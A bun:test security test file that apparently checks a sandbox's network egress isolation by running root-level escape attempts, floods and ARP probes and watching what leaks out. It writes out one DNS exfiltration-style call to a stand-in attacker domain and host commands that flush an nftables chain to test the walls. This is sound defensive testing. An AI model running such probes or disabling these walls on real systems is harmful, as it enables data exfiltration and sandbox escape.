import { afterAll, beforeAll, expect, test } from 'bun:test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { proxyCount } from '../../src/node/network/egress/proxies/proxies.ts';
import { chainOfLink } from '../../src/node/network/rules/link-table.ts';
import { coversName } from '../../src/protocol/network/network.ts';
import { startLab, type Lab, type Visit } from '../egress/support/lab.ts';
import { policies, type Attempt } from './support/network/attempt.ts';
import { floods } from './support/network/floods.ts';
import { forgery } from './support/network/forged.ts';
import { host } from './support/network/host.ts';
import { http } from './support/network/http.ts';
import { links } from './support/network/links.ts';
import { names } from './support/network/names.ts';
import { packets } from './support/network/packets.ts';
import { tls } from './support/network/tls.ts';
import { tunnels } from './support/network/tunnels.ts';
import { noteVisitors } from './support/network/visitors.ts';
import { attackWall } from './support/wall.ts';

// Attempts by root inside a sandbox to get around a policy, to reach the host or to stop what sandboxes share. Success
// is judged from outside: by packets that arrive on the internet, by requests that its servers and the host's got, and
// by what another sandbox received.

const prelude = readFileSync(join(import.meta.dir, 'support/network/prelude.py'), 'utf8');
const table = [...packets, ...links, ...forgery, ...http, ...tls, ...names, ...tunnels, ...host, ...floods];
const allowedNames = ['allowed.test', '*.wild.test'];

let lab: Lab;
let neighbour: string;
/** Sandboxes with the policy of the attempts, one per proxy. */
let witnesses: string[];
const sandboxes = new Map<Attempt['policy'], string>();
let watched: Attempt['policy'] | undefined;

beforeAll(async () => {
  lab = await startLab();
  neighbour = await lab.create({ internetAccess: true });
  // Slots are given out one after another, and assigned to the proxies in turn.
  witnesses = [];
  for (let i = 0; i < proxyCount(); i++) witnesses.push(await lab.create(policies.names.policy));
  await lab.python(neighbour, noteVisitors('AF_INET', '0.0.0.0'));
}, 120_000);
afterAll(() => lab.dispose(), 120_000);

test('every policy is attacked', () => {
  for (const policy of Object.keys(policies))
    expect(table.filter(attempt => attempt.policy === policy).length).toBeGreaterThan(4);
});

test('what an open policy lets through is seen: the attempts are able, and the watch is awake', async () => {
  const able = [
    'another address, another port',
    'UDP to another address',
    'ping another address',
    'GRE',
    'fragments of a datagram',
    'a SYN with data',
  ];
  const sandbox = await lab.create({ internetAccess: true });
  const tried = packets.filter(({ name }) => able.includes(name.replace('packets: ', '')));
  expect(tried.length).toBe(able.length);
  for (const attempt of tried) {
    lab.watch([]);
    expect((await attemptIn(sandbox, attempt.program)).exitCode).toBe(0);
    expect(`${attempt.name}: ${(await lab.strays()) > 0}`).toBe(`${attempt.name}: true`);
  }
  await attemptIn(sandbox, "get(OTHER, 'other.test'); ask(ATTACKER, 'secret.attacker.test')");
  expect(
    (await lab.visits()).filter(({ service }) => /http other|dns/.test(service)).map(({ detail }) => detail),
  ).toEqual(['other.test GET /', 'secret.attacker.test 1']);
  await lab.kill(sandbox);
}, 60_000);

test('a host that answers on the link is heard, and without either wall it would', async () => {
  const sandbox = await lab.create(policies.names.policy);
  const link = lab.inHost('sh', '-c', 'ls -t /sys/class/net | grep "^at" | sort -t- -k2 -n | tail -1').trim();
  const question = async () => (await attemptIn(sandbox, 'hears(arp(HOST), arp(GATEWAY))')).stdout;
  expect(await question()).toBe('');
  // Each wall holds without the other: the chain without the flag, the flag without the chain.
  lab.inHost('ip', 'link', 'set', link, 'arp', 'on');
  expect(await question()).toBe('');
  lab.inHost('ip', 'link', 'set', link, 'arp', 'off');
  // Only the chain: if the table were gone, the node would notice and put it back.
  lab.inHost('nft', 'flush', 'chain', 'netdev', `atoll${lab.installation}`, chainOfLink(link));
  expect(await question()).toBe('');
  lab.inHost('ip', 'link', 'set', link, 'arp', 'on');
  expect(await question()).toContain('LEAK: a frame of kind 0x806');
  await lab.kill(sandbox);
  await lab.restart();
}, 60_000);

attackWall(
  { name: 'network', atLeast: 870, every: 8, timeoutMs: 60_000 },
  table.map(
    attempt =>
      [`${attempt.policy}, ${attempt.name}`, () => (attempt.mustServe ? flood(attempt) : attack(attempt))] as const,
  ),
);

test('the attempts were able to the end: what made them still reaches what it may', async () => {
  for (const [policy, sandbox] of sandboxes) {
    if (policies[policy].permitted.length > 0 && policy !== 'socks')
      expect(`${policy}: ${(await attemptIn(sandbox, 'still()')).stdout}`).toBe(`${policy}: still served\n`);
  }
}, 60_000);

test('the other sandbox was not reached by any of them', async () => {
  expect(await attemptIn(neighbour, "tcp('127.0.0.1', 7000)")).toMatchObject({ exitCode: 0 });
  expect((await lab.run(neighbour, 'cat /tmp/visited')).stdout).toMatch(/^connection \('127\.0\.0\.1', \d+\)\n$/);
});

test('the host has no neighbour on a link but the one that it put there', () => {
  const entries = lab
    .inHost('ip', 'neigh', 'show')
    .split('\n')
    .filter(line => / dev at\d+-/.test(line));
  expect(entries.length).toBeGreaterThan(0);
  expect(entries.filter(line => !/^169\.254\.0\.21 .*PERMANENT/.test(line))).toEqual([]);
});

async function attack(attempt: Attempt): Promise<void> {
  const sandbox = await sandboxUnder(attempt.policy);
  const before = await lab.strays();
  const { exitCode, stdout, stderr } = await attemptIn(sandbox, attempt.program);
  expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
  expect(stdout).not.toMatch(
    /page of (other|attacker|anycast|victim|socks|publicResolver)|hello from|service of the host|LEAK/,
  );
  expect(await lab.strays()).toBe(before);
  expect((await lab.visits()).filter(visit => !isPermitted(attempt.policy, visit))).toEqual([]);
  expect(await lab.intrusions()).toEqual([]);
}

/** In its own sandbox: the share that it uses up is not the next one's. */
async function flood(attempt: Attempt): Promise<void> {
  await sandboxUnder(attempt.policy);
  const sandbox = await lab.create(policies[attempt.policy].policy);
  const before = await lab.strays();
  const going = attemptIn(sandbox, attempt.program);
  // A window for the flood, which goes on beside what follows.
  await Bun.sleep(300);
  for (const witness of witnesses) expect((await attemptIn(witness, 'still()')).stdout).toBe('still served\n');
  const { exitCode, stderr } = await going;
  expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
  for (const witness of witnesses) expect((await attemptIn(witness, 'still()')).stdout).toBe('still served\n');
  expect(await lab.strays()).toBe(before);
  expect((await lab.visits()).filter(visit => !isPermitted(attempt.policy, visit))).toEqual([]);
  expect((await lab.logged()).filter(line => /egress proxy/.test(line))).toEqual([]);
  await lab.kill(sandbox);
}

async function sandboxUnder(policy: Attempt['policy']): Promise<string> {
  const sandbox = sandboxes.get(policy) ?? (await lab.create(policies[policy].policy));
  sandboxes.set(policy, sandbox);
  if (watched !== policy) lab.watch(policies[policy].permitted);
  watched = policy;
  await lab.visits();
  await lab.logged();
  return sandbox;
}

/** If the network stops an attempt, the program ends in order; a mistake in the program does not end in order. */
function attemptIn(sandbox: string, program: string) {
  const wrapped = `
program = bytes.fromhex('${Buffer.from(program).toString('hex')}').decode()
try: exec(program)
except (OSError, subprocess.SubprocessError) as error: print('ended by', type(error).__name__, error)
`;
  // A sandbox can't get sockets that send frames. What does arrive by the link must still do no harm.
  const run = /\b(frame|hears|AF_PACKET)\b/.test(program) ? lab.pythonOnLink : lab.python;
  return run(sandbox, `INSTALLATION = ${lab.installation}\n${prelude}${wrapped}`);
}

function isPermitted(policy: Attempt['policy'], { service, from, detail }: Visit): boolean {
  if (service.includes('victim')) return false;
  const isDns = service.startsWith('dns');
  switch (policy) {
    case 'names': {
      const [name = ''] = detail.split(' ');
      const isNamed = allowedNames.some(pattern => coversName(pattern, name.toLowerCase().replace(/\.$/, '')));
      if (isDns) return service === 'dns 8.8.8.8' && isNamed && !detail.endsWith('and more');
      return /^https? (allowed|wild)$/.test(service) && isNamed && !detail.includes('smuggled');
    }
    case 'closed':
      return false;
    case 'addresses':
      return service.endsWith(' allowed');
    case 'socks':
      return isDns ? service === 'dns 8.8.8.8' : service === 'socks' || from !== '192.0.2.2';
    case 'open':
    case 'headers':
      return true;
  }
}
